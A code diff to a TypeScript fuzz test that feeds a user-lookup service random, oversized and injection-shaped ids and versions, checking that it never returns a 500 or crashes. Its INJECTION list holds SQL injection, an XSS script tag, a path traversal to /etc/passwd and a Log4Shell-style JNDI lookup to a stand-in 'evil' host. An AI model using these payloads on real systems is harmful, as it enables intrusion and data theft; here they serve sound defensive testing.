@@ -37,6 +37,7 @@ const internalErrors: unknown[] = [];
 const INJECTION = [
   "' OR '1'='1",
   '"; DROP TABLE embeddings; --',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection-shaped id, on purpose
   '${jndi:ldap://evil/a}',
   '<script>alert(1)</script>',
   '../../../etc/passwd',
@@ -95,7 +96,16 @@ function randomVersion(rng: Rng): unknown {
     case 1:
       return `${MODEL}@${DATES[rng.int(2)]}`;
     case 2:
-      return [`${MODEL}@2026-02-30`, `${MODEL}@2026-10-1`, `other-model@2026-10-01`, `${MODEL}@2099-01-01`, '@', 'a@b@c', `${MODEL}@`, `@2026-10-01`][rng.int(8)];
+      return [
+        `${MODEL}@2026-02-30`,
+        `${MODEL}@2026-10-1`,
+        `other-model@2026-10-01`,
+        `${MODEL}@2099-01-01`,
+        '@',
+        'a@b@c',
+        `${MODEL}@`,
+        `@2026-10-01`,
+      ][rng.int(8)];
     case 3:
       return `${INJECTION[rng.int(INJECTION.length)]}@2026-10-01`;
     case 4:
@@ -209,7 +219,8 @@ afterAll(async () => {
     await recordReliability('lookup-fuzz', [
       {
         id: 'lookup.fuzz-core',
-        description: 'seeded random / oversized / unicode / injection-shaped ids and versions, bad shapes, batches 0..1000, against handleLookup',
+        description:
+          'seeded random / oversized / unicode / injection-shaped ids and versions, bad shapes, batches 0..1000, against handleLookup',
         trials: total('core'),
         passed: total('core') - (statusCounts.core![500] ?? 0),
         result: `status counts ${JSON.stringify(statusCounts.core)}; no 500, no throw`,
@@ -234,7 +245,10 @@ describe('lookup fuzz: only 200, 400 or 404; never a 500, never a crash', () => 
       const request = randomRequest(rng);
       let response: LookupResponse;
       try {
-        response = await handleLookup(local.store, request, { pointerCacheMs: 0, onError: (e) => internalErrors.push(e) });
+        response = await handleLookup(local.store, request, {
+          pointerCacheMs: 0,
+          onError: (e) => internalErrors.push(e),
+        });
       } catch (error) {
         throw new Error(`case ${i} threw: ${String(error)}`);
       }
@@ -264,9 +278,11 @@ describe('lookup fuzz: only 200, 400 or 404; never a 500, never a crash', () => 
         const id = randomUserId(rng);
         const raw = typeof id === 'string' ? id : JSON.stringify(id ?? '');
         // percent-encode most of the time; sometimes send raw or broken escapes
-        const path = rng.int(3) === 0 ? raw.replace(/[^\w-]/g, '%') : encodeURIComponent(raw.replace(/[\ud800-\udfff]/g, 'x'));
+        const path =
+          rng.int(3) === 0 ? raw.replace(/[^\w-]/g, '%') : encodeURIComponent(raw.replace(/[\ud800-\udfff]/g, 'x'));
         const version = randomVersion(rng);
-        const query = typeof version === 'string' ? `?version=${encodeURIComponent(version.replace(/[\ud800-\udfff]/g, 'x'))}` : '';
+        const query =
+          typeof version === 'string' ? `?version=${encodeURIComponent(version.replace(/[\ud800-\udfff]/g, 'x'))}` : '';
         response = await fetch(`${server.url}/users/${path}${query}`);
       } else {
         const body =
@@ -275,7 +291,11 @@ describe('lookup fuzz: only 200, 400 or 404; never a 500, never a crash', () => 
             : kind === 2
               ? randomString(rng, 200)
               : JSON.stringify({ userIds: Array.from({ length: 3000 }, (_, k) => `user-${k}-${'p'.repeat(20)}`) });
-        response = await fetch(`${server.url}/users:batch`, { method: 'POST', body, headers: { 'content-type': 'application/json' } });
+        response = await fetch(`${server.url}/users:batch`, {
+          method: 'POST',
+          body,
+          headers: { 'content-type': 'application/json' },
+        });
       }
       count('http', response.status);
       expect([200, 400, 404], `case ${i}`).toContain(response.status);
